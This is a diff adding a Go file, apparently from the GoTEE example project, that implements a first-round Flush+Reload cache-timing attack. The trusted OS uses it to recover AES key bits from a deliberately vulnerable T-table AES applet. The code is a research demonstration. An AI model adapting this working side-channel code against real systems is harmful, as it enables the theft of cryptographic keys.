@@ -0,0 +1,232 @@
+// Copyright (c) The GoTEE authors. All Rights Reserved.
+//
+// Use of this source code is governed by the license
+// that can be found in the LICENSE file.
+
+//go:build tamago && arm
+
+package gotee
+
+import (
+	"errors"
+	"fmt"
+	"math/rand"
+	"sync"
+	"unsafe"
+
+	"github.com/usbarmory/tamago/soc/nxp/imx6ul"
+
+	"github.com/usbarmory/GoTEE-example/mem"
+	"github.com/usbarmory/GoTEE-example/util"
+)
+
+// aesVictimAttack represents the state of a Flush+Reload first round attack
+// against the applet AES victim, with the Trusted OS as attacker.
+type aesVictimAttack struct {
+	sync.Mutex
+
+	pmu       *PMU
+	threshold float64
+	tables    []byte
+	lineSize  int
+	armed     bool
+
+	// plaintext submitted for the current encryption
+	pt      [16]byte
+	pending bool
+	// T-table lines found in cache on the last world switch, indexed by
+	// table and line
+	hits [4][]bool
+
+	trials int
+	// per key byte candidate scores
+	scores [16][256]int
+}
+
+var aesVictim aesVictimAttack
+
+// lines returns the number of cache lines of each T-table.
+func (a *aesVictimAttack) lines() int {
+	return 256 * 4 / a.lineSize
+}
+
+// line returns the argument T-table cache line.
+func (a *aesVictimAttack) line(table int, line int) *byte {
+	return &a.tables[table*256*4+line*a.lineSize]
+}
+
+// flush evicts all T-table lines.
+func (a *aesVictimAttack) flush() {
+	FlushRange(&a.tables[0], len(a.tables))
+}
+
+// score credits, for each key byte, every candidate mapping the plaintext
+// byte to a T-table line found in cache, the first round looks up key byte i
+// in table i%4.
+func (a *aesVictimAttack) score() {
+	entries := a.lineSize / 4
+
+	for i := range a.scores {
+		for line, hit := range a.hits[i%4] {
+			if !hit {
+				continue
+			}
+
+			for e := 0; e < entries; e++ {
+				a.scores[i][int(a.pt[i])^(line*entries+e)]++
+			}
+		}
+	}
+
+	a.trials++
+}
+
+// AESVictimStart serves util.SMC_AES_START, registering the applet AES
+// victim T-tables at addr as Flush+Reload targets.
+func AESVictimStart(addr uint32) (err error) {
+	end := uint(addr) + util.SMCAESTableSize
+
+	switch {
+	case mem.AppletRegion == nil:
+		return errors.New("applet memory not available")
+	case uint(addr) < mem.AppletRegion.Start() || end > mem.AppletRegion.End():
+		return fmt.Errorf("T-tables %#.8x-%#.8x outside applet memory", addr, end)
+	}
+
+	a := &aesVictim
+
+	a.Lock()
+	defer a.Unlock()
+
+	a.pmu = NewPMU()
+
+	if a.threshold, err = calibrateThreshold(a.pmu); err != nil {
+		return
+	}
+
+	a.lineSize = l1d(imx6ul.ARM).lineSize
+
+	if addr%uint32(a.lineSize) != 0 {
+		return fmt.Errorf("T-tables %#.8x not aligned to %d bytes", addr, a.lineSize)
+	}
+
+	a.tables = unsafe.Slice((*byte)(unsafe.Pointer(uintptr(addr))), util.SMCAESTableSize)
+
+	for i := range a.hits {
+		a.hits[i] = make([]bool, a.lines())
+	}
+
+	a.scores = [16][256]int{}
+	a.trials = 0
+	a.pending = false
+	a.armed = true
+
+	return
+}
+
+// AESVictimReload is the world switch hook of the applet AES victim attack,
+// it must be invoked on applet secure monitor call entry, before any other
+// processing, to reload the T-table lines.
+func AESVictimReload() {
+	a := &aesVictim
+
+	a.Lock()
+	defer a.Unlock()
+
+	if !a.armed || !a.pending {
+		return
+	}
+
+	lines := a.lines()
+
+	for table := range a.hits {
+		for i := 0; i < lines; i++ {
+			// visit lines in a scrambled order to not trigger the
+			// prefetcher
+			line := (i*13 + 7) % lines
+			a.hits[table][line] = float64(timeReload(a.pmu, a.line(table, line))) < a.threshold
+		}
+	}
+}
+
+// AESVictimNext serves util.SMC_AES_NEXT, scoring the previous encryption
+// observed on world switch and returning a new random plaintext, with all
+// T-table lines flushed.
+func AESVictimNext() (pt [16]byte, err error) {
+	a := &aesVictim
+
+	a.Lock()
+	defer a.Unlock()
+
+	if !a.armed {
+		return pt, errors.New("AES victim attack not started")
+	}
+
+	if a.pending {
+		a.score()
+	}
+
+	rand.Read(a.pt[:])
+	a.pending = true
+	a.flush()
+
+	return a.pt, nil
+}
+
+// AESVictimReport serves util.SMC_AES_REPORT, logging the key byte candidates
+// recovered by the attack against the applet AES victim key.
+func AESVictimReport(key []byte) {
+	a := &aesVictim
+
+	a.Lock()
+	defer a.Unlock()
+
+	if !a.armed {
+		logf(LogQuiet, "SM AES victim report received without prior encryptions")
+		return
+	}
+
+	a.armed = false
+
+	// the last encryption was observed on this world switch
+	if a.pending {
+		a.score()
+	}
+
+	recovered := 0
+	bits := 0
+
+	logf(LogNormal, "SM AES victim attack, %d encryptions, threshold %.2f CPU cycles", a.trials, a.threshold)
+
+	for i, scores := range a.scores {
+		var candidates []byte
+		best := 0
+
+		for _, s := range scores {
+			best = max(best, s)
+		}
+
+		found := false
+
+		for k, s := range scores {
+			if s == best {
+				candidates = append(candidates, byte(k))
+				found = found || byte(k) == key[i]
+			}
+		}
+
+		if found {
+			recovered++
+
+			for n := len(candidates); n < 256; n <<= 1 {
+				bits++
+			}
+		}
+
+		logf(LogDebug, "  Key byte %2d: actual %#02x, %d candidates (score %d/%d) %x, %s",
+			i, key[i], len(candidates), best, a.trials, candidates,
+			map[bool]string{true: "✓", false: "✗"}[found])
+	}
+
+	logf(LogQuiet, "SM AES victim attack recovered %d/16 key bytes upper bits (%d/128 key bits)", recovered, bits)
+}